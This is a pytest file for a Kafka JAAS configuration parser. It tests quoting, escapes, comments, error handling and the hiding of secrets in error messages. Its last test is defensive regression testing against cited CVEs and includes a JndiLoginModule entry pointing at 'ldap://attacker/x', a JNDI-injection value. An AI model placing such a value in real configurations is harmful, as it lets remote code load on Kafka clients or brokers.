"""Values of sasl.jaas.config."""

from __future__ import annotations

import sys

import pytest

from raftwerk.security.jaas import parse_jaas
from raftwerk.security.sasl.plain import passwords_of


def test_options_with_and_without_quotes() -> None:
    module = parse_jaas(r'a.b.PlainLoginModule required username="ad;min" password="p=\"q\\" debug=true;')
    assert module.class_name == "a.b.PlainLoginModule"
    assert module.options == {"username": "ad;min", "password": 'p="q\\', "debug": "true"}


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ("username='alice' password='secret'", {"username": "alice", "password": "secret"}),
        ("""username='al"ice' password='x;y=z'""", {"username": 'al"ice', "password": "x;y=z"}),
        ("""username="it's" password='a' debug=true""", {"username": "it's", "password": "a", "debug": "true"}),
        (r"username='it\'s' password='a\\b'", {"username": "it's", "password": r"a\b"}),
        (r'password="a\tb\n\r\f\b\v\a"', {"password": "a\tb\n\r\f\b\v\a"}),
        (r'password="\101\12\0x\477\18\e"', {"password": "A\n\0x'7\x018e"}),
        ('password="a\\\nb"', {"password": "a\nb"}),
        ("/* c; */ a=b /**/ c=/* 'x' */d", {"a": "b", "c": "d"}),
        ("a='b'// c='d'\n c='e' // f\n", {"a": "b", "c": "e"}),
        ("a='// b' c=\"/* d */\"", {"a": "// b", "c": "/* d */"}),
    ],
)
def test_quotes_escapes_and_comments_are_those_of_java(options: str, expected: dict[str, str]) -> None:
    """As Kafka 4.2's JaasConfig reads them, by Java's StreamTokenizer."""
    assert parse_jaas(f"org.Login required {options};").options == expected


def test_values_without_quotes_may_have_what_kafka_asks_quotes_for() -> None:
    options = parse_jaas("org.Login required keyTab=/etc/a.keytab url=http://idp:80/x password=12'3 n=a@b;").options
    assert options == {"keyTab": "/etc/a.keytab", "url": "http://idp:80/x", "password": "12'3", "n": "a@b"}


@pytest.mark.parametrize(
    "text",
    ["", "x", "x required", "x required a=b", "x needed a=b;", 'x required a="b;', "x required a;", "x required a==b;"]
    + ["x required a='b;", "x required a='b\";", "x required /* a=b;", "x required a=b // ;", "x required a=b /;"],
)
def test_what_is_no_module_is_refused_without_its_secrets(text: str) -> None:
    with pytest.raises(ValueError, match=r"[a-z]"):
        parse_jaas(text)


def test_secrets_are_not_shown() -> None:
    with pytest.raises(ValueError, match="option") as caught:
        parse_jaas('m required username="u" password "hush";')
    assert "hush" not in str(caught.value)
    assert "hush" not in repr(parse_jaas('m required password="hush";'))


@pytest.mark.parametrize("name", ["com.sun.security.auth.module.JndiLoginModule", "antigravity"])
def test_the_class_of_a_login_module_is_never_loaded(name: str) -> None:
    """CVE-2023-25194, CVE-2025-27818 and CVE-2025-27819: there a class that was named in settings ran."""
    loaded = set(sys.modules)
    module = parse_jaas(f'{name} required user.provider.url="ldap://attacker/x" user_alice="wonder";')
    is_valid = passwords_of(module.options)
    assert is_valid("alice", "wonder")
    assert not is_valid("attacker", "x")
    assert set(sys.modules) == loaded
